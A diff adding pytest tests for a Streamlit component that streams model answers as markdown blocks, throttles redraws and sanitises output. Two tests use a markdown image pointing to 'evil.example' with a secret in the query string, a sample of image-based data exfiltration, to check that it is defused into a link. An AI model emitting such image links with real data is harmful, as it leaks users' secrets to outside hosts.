@@ -1,0 +1,445 @@
+"""LiveMarkdown: finished blocks are sent once, the tail is throttled, everything is made safe.
+
+Stored answers are drawn alike.
+"""
+
+from __future__ import annotations
+
+import itertools
+import re
+import sys
+
+import pytest
+import streamlit as st
+from streamlit.testing.v1 import AppTest
+
+from lib import state
+from lib.ui.live_markdown import ELEMENT_BYTES, LAYOUTS_KEPT, LiveMarkdown, render_markdown, split_stable
+from lib.ui.markdown_safety import safe_markdown
+
+CURSOR = " ▌"
+
+
+@pytest.fixture(autouse=True)
+def no_remembered_layouts():
+    """Outside a script run Streamlit keeps one session state for the whole process: start each test afresh."""
+    st.session_state.pop(state.MARKDOWN_LAYOUTS, None)
+
+
+SPLITS = [
+    ("paragraphs", "a\n\nb\n\nc", ["a\n\n", "b\n\n"], "c"),
+    ("the next line has not started", "a\n\n", [], "a\n\n"),
+    ("a started line is enough", "para one\n\npara tw", ["para one\n\n"], "para tw"),
+    ("no blank line", "a\nb\nc", [], "a\nb\nc"),
+    ("several blank lines", "a\n\n\n\nb", ["a\n\n\n\n"], "b"),
+    ("trailing blank lines", "a\n\nb\n\n\n", ["a\n\n"], "b\n\n\n"),
+    ("leading blank lines", "\n\na\n\nb", ["\n\na\n\n"], "b"),
+    ("whitespace-only partial line", "a\n\n  ", [], "a\n\n  "),
+    ("CRLF", "a\r\n\r\nb\r\n\r\nc", ["a\r\n\r\n", "b\r\n\r\n"], "c"),
+    ("fence with blank lines", "```\nx\n\ny\n```\n\nz", ["```\nx\n\ny\n```\n\n"], "z"),
+    ("tilde fence with blank lines", "~~~\nx\n\ny\n~~~\n\nz", ["~~~\nx\n\ny\n~~~\n\n"], "z"),
+    ("fence holding a shorter fence", "````\n```\n\nx\n````\n\ny", ["````\n```\n\nx\n````\n\n"], "y"),
+    ("unterminated fence", "p\n\n```\nx\n\ny", ["p\n\n"], "```\nx\n\ny"),
+    ("half-written closing fence", "```\nx\n\n``", [], "```\nx\n\n``"),
+    ("maths block with a blank line", "$$\na\n\nb\n$$\n\nc", ["$$\na\n\nb\n$$\n\n"], "c"),
+    ("heading", "# Title\n\ntext", ["# Title\n\n"], "text"),
+    ("blockquote", "> a\n\nb", ["> a\n\n"], "b"),
+    ("table", "| a |\n|---|\n| b |\n\nc", ["| a |\n|---|\n| b |\n\n"], "c"),
+    ("tight list", "- a\n- b\n\nafter", ["- a\n- b\n\n"], "after"),
+    ("loose list stays one block", "- a\n\n- b\n\nafter", ["- a\n\n- b\n\n"], "after"),
+    ("loose ordered list stays one block", "1. a\n\n1. b\n\nx", ["1. a\n\n1. b\n\n"], "x"),
+    ("paragraph then list", "para\n\n- a", ["para\n\n"], "- a"),
+    ("indented continuation of an item", "- a\n\n  more\n\nb", ["- a\n\n  more\n\n"], "b"),
+    (
+        "indented code stays with what precedes",
+        "p\n\n    code\n\n    more\n\nq",
+        ["p\n\n    code\n\n    more\n\n"],
+        "q",
+    ),
+    (
+        "fence inside a list item",
+        "1. a\n\n   ```\n   x\n\n   y\n   ```\n\nz",
+        ["1. a\n\n   ```\n   x\n\n   y\n   ```\n\n"],
+        "z",
+    ),
+    ("bullet or not: undecided", "- a\n\n-", [], "- a\n\n-"),
+    ("number or not: undecided", "1. a\n\n12", [], "1. a\n\n12"),
+    ("not a list item after all", "- a\n\n-5 degrees", ["- a\n\n"], "-5 degrees"),
+    ("another kind of list is another block", "- a\n\n1. b\n\n* c", ["- a\n\n", "1. b\n\n"], "* c"),
+    ("another delimiter is another list", "1. a\n\n2) b", ["1. a\n\n"], "2) b"),
+    ("another bullet, half-written", "- a\n\n*", ["- a\n\n"], "*"),
+]
+
+
+@pytest.mark.parametrize(("text", "blocks", "tail"), [case[1:] for case in SPLITS], ids=[case[0] for case in SPLITS])
+def test_split_stable(text, blocks, tail):
+    assert split_stable(text) == (blocks, tail)
+    assert "".join(blocks) + tail == text
+
+
+DOCUMENT = (
+    "# Answer\n\n"
+    "First paragraph with `code`, a [link](https://example.com) and \\(x^2\\).\n\n"
+    "```python\ndef f():\n    return 1\n\n\nprint(f())\n```\n\n"
+    "- one\n- two ![chart](https://img.example/c.png)\n\n"
+    "1. first\n\n1. second\n\n"
+    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "> quoted\n\n"
+    "\\[\nE = mc^2\n\\]\n\n"
+    "$$\na\n\nb\n$$\n\n"
+    "Last paragraph."
+)
+
+
+def test_blocks_render_like_the_whole_text():
+    blocks, tail = split_stable(DOCUMENT)
+    assert len(blocks) == 9
+    assert "\n\n".join(safe_markdown(part).strip() for part in [*blocks, tail]) == safe_markdown(DOCUMENT)
+
+
+# A stand-in for Streamlit's containers that records every element write.
+
+
+class Slot:
+    """What ``st.empty()`` returns: one element, rewritten in place."""
+
+    def __init__(self, log: list[str]) -> None:
+        self.log = log
+        self.writes: list[str | None] = []
+        self.frame: Frame | None = None
+
+    def markdown(self, body: str) -> Slot:
+        self.writes.append(body)
+        self.log.append(body)
+        return self
+
+    def empty(self) -> Slot:
+        self.writes.append(None)
+        return self
+
+    def container(self) -> Frame:
+        self.frame = Frame(self.log)
+        return self.frame
+
+
+class Frame:
+    """What ``st.container()`` returns: elements appended in order."""
+
+    def __init__(self, log: list[str] | None = None) -> None:
+        self.log = [] if log is None else log
+        self.slots: list[Slot] = []
+
+    def empty(self) -> Slot:
+        self.slots.append(Slot(self.log))
+        return self.slots[-1]
+
+    def markdown(self, body: str) -> Slot:
+        return self.empty().markdown(body)
+
+    def on_screen(self) -> list[str]:
+        whole = self.slots[0]
+        if whole.writes:
+            return [whole.writes[-1]]
+        bodies = [slot.writes[-1] for slot in whole.frame.slots if slot.writes and slot.writes[-1]]
+        return [body.strip() for body in bodies]  # as st.markdown sends them
+
+
+class Clock:
+    def __init__(self) -> None:
+        self.now = 0.0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+def tokens(text: str) -> list[str]:
+    return re.findall(r"\S+\s*|\s+", text)
+
+
+def stream(text: str, *, seconds_per_token: float, max_fps: float = 10.0) -> tuple[Frame, LiveMarkdown, Clock]:
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, max_fps=max_fps, clock=clock)
+    for token in tokens(text):
+        live.append(token)
+        clock.now += seconds_per_token
+    return screen, live, clock
+
+
+def whole_blocks(text: str, bodies: list[str]) -> bool:
+    """Whether ``bodies`` (one per element, in order) are ``text``'s blocks, each run of them drawn together."""
+    blocks, tail = split_stable(text)
+    parts = iter([*blocks, tail])
+    for body in bodies:
+        part = next(parts, None)
+        while part is not None and safe_markdown(part) != body:
+            following = next(parts, None)
+            part = None if following is None else part + following
+        if part is None:
+            return False
+    return next(parts, None) is None
+
+
+def test_each_finished_block_is_written_once_and_never_again():
+    screen, live, _ = stream(DOCUMENT, seconds_per_token=0.002)
+    live.finish()
+    slots = screen.slots[0].frame.slots
+    assert whole_blocks(DOCUMENT, [slot.writes[-1] for slot in slots])
+    assert not whole_blocks(DOCUMENT, [slot.writes[-1] for slot in slots[1:]])  # the check can fail
+    for slot in slots[:-1]:
+        *drafts, final = slot.writes
+        assert all(draft.endswith(CURSOR) for draft in drafts)  # the tail, before it was finished
+        assert final not in drafts
+
+
+def test_blocks_finished_between_two_draws_go_in_one_element():
+    screen, live, _ = stream(DOCUMENT, seconds_per_token=0.0)  # the clock never moves: the first words, then finish
+    live.finish()
+    blocks, tail = split_stable(DOCUMENT)
+    assert screen.on_screen() == [safe_markdown("".join(blocks)).strip(), safe_markdown(tail).strip()]
+    assert len(screen.log) == 3  # the first words, then all the finished blocks, then the tail
+
+
+def test_a_slow_stream_sends_each_block_as_it_finishes():
+    screen, live, _ = stream(DOCUMENT, seconds_per_token=1.0)
+    live.finish()
+    blocks, tail = split_stable(DOCUMENT)
+    assert screen.on_screen() == [safe_markdown(part).strip() for part in [*blocks, tail]]
+
+
+def test_tail_redraws_are_throttled_to_max_fps():
+    text = "\n\n".join(f"Paragraph {n} " + "word " * 40 for n in range(50))  # about 2,100 tokens
+    screen, _, clock = stream(text, seconds_per_token=0.002)  # 500 tokens a second
+    blocks, _ = split_stable(text)
+    drafts = [body for body in screen.log if body.endswith(CURSOR)]
+    assert len(drafts) <= clock.now * 10 + 1
+    assert len(screen.log) <= len(drafts) + len(blocks)
+
+
+def test_a_slow_stream_is_drawn_token_by_token():
+    screen, _, _ = stream("one two three", seconds_per_token=1.0)
+    assert screen.log == ["one " + CURSOR, "one two " + CURSOR, "one two three" + CURSOR]
+
+
+def test_slow_draws_are_spaced_out_so_reading_keeps_up():
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, max_fps=20, clock=clock)
+    live.append("first ")
+    slot = screen.slots[0].frame.slots[0]
+    draws: list[float] = [0.0]
+
+    def slow_markdown(body: str) -> Slot:
+        clock.now += 0.2  # this draw takes 0.2 s
+        draws.append(clock.now)
+        return slot
+
+    slot.markdown = slow_markdown
+    for _ in range(100):
+        clock.now += 0.01
+        live.append("more ")
+    gaps = [later - earlier for earlier, later in itertools.pairwise(draws[1:])]
+    assert gaps and min(gaps) >= 0.6 - 1e-9  # 3 x the draw time, not 1 / max_fps
+
+
+def test_finish_draws_all_the_text_without_the_cursor():
+    screen, live, _ = stream(DOCUMENT, seconds_per_token=0.0)  # the clock never moves: one draw only
+    assert len(screen.log) == 1
+    assert live.finish() == DOCUMENT
+    assert "\n\n".join(screen.on_screen()) == safe_markdown(DOCUMENT)
+    assert not any(body.endswith(CURSOR) for body in screen.on_screen())
+
+
+def test_text_holds_everything_appended_drawn_or_not():
+    screen, live, _ = stream("alpha beta gamma", seconds_per_token=0.0)
+    assert screen.log == ["alpha " + CURSOR]
+    assert live.text == "alpha beta gamma"
+
+
+def test_model_text_is_made_safe_while_streaming():
+    screen, _, _ = stream("Look: ![x](https://evil.example/?q=secret) done", seconds_per_token=1.0)
+    assert not any("![x]" in body for body in screen.log)
+    assert screen.log[-1] == "Look: [🖼 x](https://evil.example/?q=secret) done" + CURSOR
+
+
+def test_reference_definitions_make_finish_redraw_the_whole_answer():
+    text = "See [the docs][d].\n\nMore.\n\n[d]: https://example.com"
+    screen, live, _ = stream(text, seconds_per_token=1.0)
+    live.finish()
+    assert screen.on_screen() == [safe_markdown(text)]
+
+
+def test_an_unchanged_tail_is_not_sent_again():
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, clock=clock, cursor="")
+    live.append("done")
+    live.finish()
+    assert screen.log == ["done"]
+
+
+class Interrupted(Exception):
+    """Stands for Streamlit's StopException / RerunException."""
+
+
+def test_an_interruption_propagates_and_the_text_survives():
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, clock=clock)
+    live.append("first ")
+    clock.now += 1
+
+    def interrupt(body: str) -> Slot:
+        raise Interrupted
+
+    screen.slots[0].frame.slots[0].markdown = interrupt
+    with pytest.raises(Interrupted):
+        live.append("second")
+    assert live.text == "first second"
+
+
+def test_max_fps_must_be_positive():
+    with pytest.raises(ValueError):
+        LiveMarkdown(Frame(), max_fps=0)
+
+
+def test_render_markdown_shows_stored_text_safely():
+    screen = Frame()
+    render_markdown("![x](https://evil.example/?q=secret)", screen)
+    assert screen.log == ["[🖼 x](https://evil.example/?q=secret)"]
+
+
+def test_render_markdown_draws_an_answer_unknown_to_the_session_one_element_per_block():
+    screen = Frame()
+    render_markdown(DOCUMENT, screen)
+    blocks, tail = split_stable(DOCUMENT)
+    assert screen.log == [safe_markdown(part) for part in [*blocks, tail]]
+
+
+# The real thing: Streamlit's own elements, driven by AppTest.
+
+
+def stream_then_show_stored(parts: list[str]) -> None:
+    import streamlit as st
+
+    from lib.ui.live_markdown import LiveMarkdown, render_markdown
+
+    if "answer" not in st.session_state:
+        live = LiveMarkdown(st.container(), clock=lambda: 0.0)  # full speed: the first words, then finish
+        for part in parts:
+            live.append(part)
+        st.session_state.answer = live.finish()
+    else:
+        render_markdown(st.session_state.answer)
+
+
+def test_a_stored_answer_is_drawn_in_the_elements_it_streamed_in(monkeypatch):
+    monkeypatch.setitem(
+        sys.modules, "__main__", sys.modules["__main__"]
+    )  # see test_streaming_two_thousand_tokens_in_streamlit
+    at = AppTest.from_function(stream_then_show_stored, args=(tokens(DOCUMENT),)).run()
+    streamed = [element.value for element in at.markdown]
+    assert len(streamed) == 2
+    assert [element.value for element in at.run().markdown] == streamed
+
+    other_session = AppTest.from_function(stream_then_show_stored, args=(tokens(DOCUMENT),))
+    other_session.session_state.answer = DOCUMENT
+    blocks, _tail = split_stable(DOCUMENT)
+    assert len(other_session.run().markdown) == len(blocks) + 1
+
+
+def remember_many_answers(count: int) -> None:
+    import streamlit as st
+
+    from lib.ui.live_markdown import LiveMarkdown, render_markdown
+
+    answers = [f"Answer {n}.\n\nIts second paragraph.\n\nIts third." for n in range(count)]
+    if "drawn" not in st.session_state:
+        for text in answers:
+            live = LiveMarkdown(st.container(), clock=lambda: 0.0)
+            for part in text.split(" "):
+                live.append(part + " ")
+            live.finish()
+        st.session_state.drawn = True
+    else:
+        render_markdown(answers[0] + " ")  # the oldest, forgotten: one element per block
+        render_markdown(answers[-1] + " ")  # the newest, remembered: as streamed, in two elements
+
+
+def test_a_session_remembers_the_layouts_of_its_latest_answers_only(monkeypatch):
+    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])
+    at = AppTest.from_function(remember_many_answers, args=(LAYOUTS_KEPT + 1,), default_timeout=30).run()
+    assert len(at.run().markdown) == 3 + 2
+
+
+def streaming_app(parts: list[str]) -> None:
+    import itertools
+
+    import streamlit as st
+
+    from lib.ui.live_markdown import LiveMarkdown
+
+    ticks = itertools.count()
+    live = LiveMarkdown(st.container(), clock=lambda: next(ticks) * 0.002)  # 500 tokens a second
+    for part in parts:
+        live.append(part)
+    live.finish()
+
+
+def test_streaming_two_thousand_tokens_in_streamlit(monkeypatch):
+    # The script run makes its temporary file sys.modules["__main__"]; restored afterwards, or later
+    # processes started with "spawn" (the benchmark's fake server) would try to run that file.
+    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])
+    text = "\n\n".join([DOCUMENT] * 42)
+    parts = tokens(text)
+    assert len(parts) > 2_000
+    at = AppTest.from_function(streaming_app, args=(parts,), default_timeout=60).run()
+    assert not at.exception
+    assert "\n\n".join(element.value for element in at.markdown) == safe_markdown(text)
+
+
+@pytest.mark.parametrize("tokens_per_second", [20, 50, 500, 5000])
+def test_streaming_costs_about_twice_the_answer_not_hundreds(tokens_per_second):
+    """Every redraw re-sends the growing paragraph, so redraws are paid from a budget (1.5 times the text
+    received plus 100 bytes a second), and a slow stream is redrawn once a second on top: all within 1.8
+    times the text plus 500 bytes a second, plus the first words; the final draw comes on top."""
+    words = [f"word{n}" for n in range(2000)]
+    text = "\n\n".join(" ".join(words[start : start + 80]) for start in range(0, 2000, 80))
+    screen, live, clock = stream(text, seconds_per_token=1 / tokens_per_second)
+    live.finish()
+    sent = sum(len(body) + ELEMENT_BYTES for body in screen.log)
+    final_draw = len(text.rsplit("\n\n", 1)[1]) + ELEMENT_BYTES
+    assert sent <= 1.8 * len(text) + 500 * clock.now + 400 + final_draw
+    assert "\n\n".join(screen.on_screen()) == safe_markdown(text)
+
+
+def test_the_budget_spreads_redraws_over_the_paragraph():
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, clock=clock)
+    for _ in range(400):  # a 2,000-character paragraph at 50 tokens a second
+        live.append("word ")
+        clock.now += 0.02
+    sizes = [len(body) for body in screen.log]
+    assert sizes[:2] == [7, 32]  # the first words at once, then max_fps redraws while it is short
+    gaps = [later - earlier for earlier, later in itertools.pairwise(sizes)]
+    assert gaps[-1] >= 8 * gaps[0]  # then rarer as each redraw costs more,
+    assert max(gaps) <= 75 * 5 + 5  # yet at least every 1.5 seconds
+    assert len(sizes) < 20
+
+
+def test_a_paragraph_over_budget_is_still_redrawn_every_one_and_a_half_seconds():
+    screen, clock = Frame(), Clock()
+    live = LiveMarkdown(screen, clock=clock)
+    draws: list[float] = []
+    slot_markdown = Slot.markdown
+
+    def timed(slot: Slot, body: str) -> Slot:
+        draws.append(clock.now)
+        return slot_markdown(slot, body)
+
+    Slot.markdown = timed  # type: ignore[method-assign]
+    try:
+        live.append("x" * 1000)
+        for _ in range(40):
+            clock.now += 0.125
+            live.append("y")
+    finally:
+        Slot.markdown = slot_markdown  # type: ignore[method-assign]
+    later = draws[2:]
+    assert later and all(abs(gap - 1.5) < 1e-9 for gap in (b - a for a, b in itertools.pairwise(later)))
